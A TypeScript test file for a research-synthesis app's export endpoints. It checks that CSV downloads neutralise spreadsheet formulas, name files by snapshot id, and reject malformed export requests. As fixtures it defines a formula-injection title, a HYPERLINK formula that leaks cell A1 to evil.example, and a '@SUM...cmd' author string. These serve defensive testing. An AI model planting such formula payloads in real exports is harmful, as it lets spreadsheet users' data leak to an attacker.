import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import request from 'supertest';
import { restoreCell } from '../../shared/export/csv.js';
import { pool } from '../../shared/stats/pool.js';
import { createTestApp, resetDb, signIn, type Agent, type TestApp } from '../support/test-app.js';
import { settleInventedReference, settleInventedSet } from './syntheses-fixtures.js';

const body = { filters: { manipulation: 'luminance', outcome: 'duration_distortion', metric: 'g_s' }, method: 'DL', hksj: false, dependence: { mode: 'aggregate', r: 0.5 } };
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the data")';
const HOSTILE_AUTHOR = '@SUM(1+1)*cmd';
const csvRows = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
const live = (file: string, req: unknown = body) => `/api/syntheses/export/${file}?request=${encodeURIComponent(JSON.stringify(req))}`;

describe('exports: CSV injection, file names, live syntheses', () => {
  let t: TestApp;
  let reviewer: Agent;
  let hostileRef: number;
  let snapshot: string;
  beforeAll(async () => {
    t = await createTestApp();
    await resetDb(t.ctx.db);
    await settleInventedSet(t.ctx.db, 'luminance');
    // a reference whose effect is negative, with a formula for a title and an author
    const r = await settleInventedReference(t.ctx.db, 'luminance', 2020, [{ mean1: 560, mean2: 610, sd: 80, n: 20 }]);
    hostileRef = r.referenceId;
    await t.ctx.db('refs').where({ id: hostileRef }).update({ title: HOSTILE_TITLE, first_author: HOSTILE_AUTHOR });
    reviewer = await signIn(t.app, 'reviewer');
    snapshot = (await reviewer.post('/api/snapshots').send(body)).body.id;
  });
  afterAll(() => t.close());

  it('snapshot CSVs neutralise formula cells, keep numbers as numbers, and round-trip the titles', async () => {
    for (const path of ['export.csv', 'effects.csv']) {
      const res = await request(t.app).get(`/api/snapshots/${snapshot}/${path}`);
      expect(res.status).toBe(200);
      expect(res.text).not.toMatch(/(^|,)=HYPERLINK/m);
      const rows = csvRows(res.text);
      const hostile = rows.find((row) => Number(row.reference_id) === hostileRef)!;
      expect(hostile.reference.startsWith("'@SUM")).toBe(true);
      expect(restoreCell(hostile.reference)).toBe(`${HOSTILE_AUTHOR} 2020`);
      if (path === 'effects.csv') {
        expect(hostile.title).toBe(`'${HOSTILE_TITLE}`);
        expect(restoreCell(hostile.title)).toBe(HOSTILE_TITLE);
      }
      // the negative effect is written as a number, and every numeric column parses back
      expect(hostile.effect).toMatch(/^-\d/);
      for (const row of rows) for (const col of ['effect', 'variance', 'year', 'n']) expect(Number.isFinite(Number(row[col]))).toBe(true);
    }
  });

  it('every snapshot export is named by the snapshot id, methods.txt included', async () => {
    const files = { 'export.csv': `${snapshot}.csv`, 'effects.csv': `${snapshot}-effects.csv`, 'export.json': `${snapshot}.json`, 'references.bib': `${snapshot}.bib`, 'methods.txt': `${snapshot}-methods.txt`, 'trials.csv': `${snapshot}-trials.csv`, 'flow.svg': `${snapshot}-flow.svg` };
    for (const [path, name] of Object.entries(files)) {
      const res = await request(t.app).get(`/api/snapshots/${snapshot}/${path}`);
      expect(res.status, path).toBe(200);
      expect(res.headers['content-disposition'], path).toBe(`attachment; filename="chronometa-snapshot-${name}"`);
    }
  });

  it('a live synthesis exports per study, per effect and as JSON without saving a snapshot', async () => {
    const before = await t.ctx.db('snapshots').count<{ n: string }[]>({ n: '*' });
    const answer = (await request(t.app).post('/api/syntheses').send(body)).body;
    const studies = await request(t.app).get(live('studies.csv'));
    expect(studies.status).toBe(200);
    expect(studies.headers['content-type']).toMatch(/text\/csv/);
    expect(studies.headers['content-disposition']).toBe(`attachment; filename="chronometa-synthesis-v${answer.registryVersion}-studies.csv"`);
    const rows = csvRows(studies.text);
    expect(rows).toHaveLength(answer.rows.length);
    const again = pool({ effects: rows.map((r) => Number(r.effect)), variances: rows.map((r) => Number(r.variance)), method: 'DL', hksj: false });
    expect(again.estimate).toBeCloseTo(answer.result.estimate, 12);
    const effects = await request(t.app).get(live('effects.csv'));
    expect(csvRows(effects.text)).toHaveLength(answer.counts.effects);
    expect(restoreCell(csvRows(effects.text).find((r) => Number(r.reference_id) === hostileRef)!.title)).toBe(HOSTILE_TITLE);
    const json = await request(t.app).get(live('synthesis.json'));
    expect(json.headers['content-disposition']).toBe(`attachment; filename="chronometa-synthesis-v${answer.registryVersion}.json"`);
    expect(JSON.parse(json.text).result).toEqual(answer.result);
    expect(JSON.parse(json.text).effects).toHaveLength(answer.counts.effects);
    const after = await t.ctx.db('snapshots').count<{ n: string }[]>({ n: '*' });
    expect(after).toEqual(before);
  });

  it('refuses a bad export request in words', async () => {
    const notJson = await request(t.app).get('/api/syntheses/export/studies.csv?request=%7Bnope');
    expect(notJson.status).toBe(400);
    expect(JSON.stringify(notJson.body.error.details)).toMatch(/not valid JSON/);
    const missing = await request(t.app).get('/api/syntheses/export/studies.csv');
    expect(missing.status).toBe(400);
    expect((await request(t.app).get(live('report.docx'))).status).toBe(400);
    const none = await request(t.app).get(live('studies.csv', { filters: { manipulation: 'no_such_term' } }));
    expect(none.status).toBe(422);
    expect(none.body.error.message).toMatch(/\w+ \w+/);
  });
});
